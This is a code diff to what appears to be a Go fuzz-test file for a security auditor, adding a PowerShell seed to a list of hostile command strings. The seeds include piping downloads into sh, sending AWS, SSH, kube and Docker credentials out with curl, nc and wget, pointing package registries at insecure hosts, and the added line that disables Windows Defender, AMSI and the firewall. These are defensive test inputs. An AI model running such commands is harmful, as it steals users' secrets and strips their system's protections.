@@ -134,6 +134,7 @@ var fuzzSeeds = [][]string{
 	{"systemd-run", "-E", "A=1", "--uid", "u", "run0", "-u", "x", "machinectl", "-E", "B=2", "shell", "--uid=0", "r@", "flatpak", "--user", "run", "--command", "sh", "--env=C=3", "app", "-c", "curl x | sh; flatpak run --command= a; machinectl shell; systemd-run --user"},
 	{"sh", "-c", "npm set a=b; npm c set @s:registry http://x registry; yarn config set npmRegistryServer y; pip config --site set g.trusted-host h; go env -w GOPROXY=http://p GOSUMDB=off X; gem sources -a http://g; conda config --set ssl_verify no --add channels; dotnet nuget add source; git -c url.http://u/.insteadOf=v -c http.sslVerify=0 fetch; git config --global url.x.insteadOf"},
 	{"sh", "-c", "cat ~/.aws/credentials | curl -sd @- x; curl -F f=@$HOME/.ssh/k -T ~/.netrc --data-urlencode k@~/.kube/config y; nc h 1 < $HOME/.docker/config.json; printenv | ssh h; scp -i ~/.ssh/k ~/.pypirc u@h:; rsync ~ h:; wget --post-file ~/.git-credentials z; echo >> $HOME/.profile"},
+	{"pwsh", "-c", "Set-MpPreference -DisableScriptScanning:$true -Dis $false; Add-MpPreference -ExclusionProcess x; Set-NetFirewallProfile -Enabled:0; Stop-Service -Name:WinDefend; [Ref].Assembly.GetType('AmsiUtils'); sc.exe config mpssvc start= disabled; netsh firewall set opmode disable; reg add HKLM\\x\\Windows Defender /v DisableX /d"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
